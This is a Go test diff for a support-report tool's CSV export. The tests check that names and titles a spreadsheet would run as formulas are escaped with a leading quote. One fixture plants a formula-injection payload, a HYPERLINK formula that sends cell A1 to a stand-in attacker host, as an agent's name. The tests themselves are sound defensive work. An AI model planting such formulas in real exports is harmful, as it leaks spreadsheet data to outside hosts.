@@ -4,11 +4,13 @@ import (
 	"bytes"
 	"context"
 	"database/sql"
+	"encoding/csv"
 	"encoding/json"
 	"errors"
 	"flag"
 	"os"
 	"path/filepath"
+	"strconv"
 	"strings"
 	"testing"
 	"time"
@@ -300,5 +302,86 @@ Pelo dia em que chegaram ou foram enviados. Não recebidos: acima dos limites, o
 `
 	if got.String() != want {
 		t.Errorf("got:\n%s\nwant:\n%s", got.String(), want)
+	}
+}
+
+// A name or a title a spreadsheet would run as a formula is written as
+// text (a leading quote); figures stay numbers.
+func TestReportCSVFormulas(t *testing.T) {
+	data := reportData(t)
+	const evil = `=HYPERLINK("http://evil.example/?"&A1,"Bruno")`
+	raw, err := sql.Open("sqlite3", filepath.Join(data, "suporte.db"))
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer raw.Close()
+	if _, err := raw.Exec(`UPDATE agents SET name = ? WHERE id = (SELECT min(id) FROM agents)`, evil); err != nil {
+		t.Fatal(err)
+	}
+	src, err := os.ReadFile("../../flows.yaml")
+	if err != nil {
+		t.Fatal(err)
+	}
+	const title, tricky = "    title: Acesso e senha\n", "    title: \"@Acesso e senha\"\n"
+	if bytes.Count(src, []byte(title)) != 1 {
+		t.Fatalf("flows.yaml has no single %q", title)
+	}
+	fl := filepath.Join(t.TempDir(), "flows.yaml")
+	if err := os.WriteFile(fl, bytes.Replace(src, []byte(title), []byte(tricky), 1), 0o644); err != nil {
+		t.Fatal(err)
+	}
+	out, stderr, err := runReportArgs(t, "--data", data, "--flows", fl, "--from", "2026-12-21", "--to", "2026-12-27",
+		"--at", "2027-01-04T12:00:00-03:00", "--format", "csv")
+	if err != nil {
+		t.Fatalf("report: %v\n%s", err, stderr)
+	}
+	r := csv.NewReader(strings.NewReader(out))
+	r.FieldsPerRecord = -1
+	rows, err := r.ReadAll()
+	if err != nil {
+		t.Fatal(err)
+	}
+	seen := map[string]bool{}
+	numbers := 0
+	for _, row := range rows {
+		for _, cell := range row {
+			seen[cell] = true
+			if _, err := strconv.ParseFloat(cell, 64); err == nil {
+				numbers++
+				continue
+			}
+			if len(cell) > 1 && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
+				t.Errorf("cell %q would run as a formula", cell)
+			}
+		}
+	}
+	for _, want := range []string{"'" + evil, "'@Acesso e senha"} {
+		if !seen[want] {
+			t.Errorf("no cell %q in:\n%s", want, out)
+		}
+	}
+	if numbers == 0 {
+		t.Error("no figure left as a number")
+	}
+}
+
+func TestSpreadsheetSafe(t *testing.T) {
+	for _, tt := range []struct{ in, want string }{
+		{"Bruno", "Bruno"},
+		{"", ""},
+		{"=1+1", "'=1+1"},
+		{"+5511999990000 ligou", "'+5511999990000 ligou"},
+		{"-x", "'-x"},
+		{"-", "-"},
+		{"@SUM(A1)", "'@SUM(A1)"},
+		{"\tcmd", "'\tcmd"},
+		{"\rcmd", "'\rcmd"},
+		{"-0.2500", "-0.2500"},
+		{"42", "42"},
+		{"2026-12-21", "2026-12-21"},
+	} {
+		if got := spreadsheetSafe(tt.in); got != tt.want {
+			t.Errorf("spreadsheetSafe(%q) = %q; want %q", tt.in, got, tt.want)
+		}
 	}
 }
